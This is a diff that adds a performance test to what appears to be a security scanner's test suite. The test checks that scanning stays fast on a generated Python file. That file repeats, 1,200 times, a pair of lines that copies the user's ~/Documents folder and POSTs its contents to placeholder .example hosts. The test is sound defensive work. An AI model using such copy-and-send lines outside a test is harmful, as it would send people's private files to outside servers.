@@ -97,6 +97,16 @@ describe('a file that would cost a scan too much', () => {
     },
   );
 
+  it('ends before long where many requests send what many calls copy to one path', async () => {
+    const pair = (at: number): string =>
+      'shutil.copytree(os.path.expanduser("~/Documents"), "/tmp/x")\n' +
+      `requests.post("https://a${at}.example/", data=open("/tmp/x").read())\n`;
+    const pairs = Array.from({ length: 1_200 }, (_, at) => pair(at)).join('');
+    const before = process.threadCpuUsage();
+    await scanOf('a.py', `import os, requests, shutil\n${pairs}`);
+    expect(process.threadCpuUsage(before).user).toBeLessThan(4_000_000);
+  });
+
   it('ends before long where a powerful value is each operand of a long expression', async () => {
     const before = process.threadCpuUsage();
     await scanOf('a.ts', `const x = ${'process && '.repeat(1_200)}process.env;\nx();\n`);
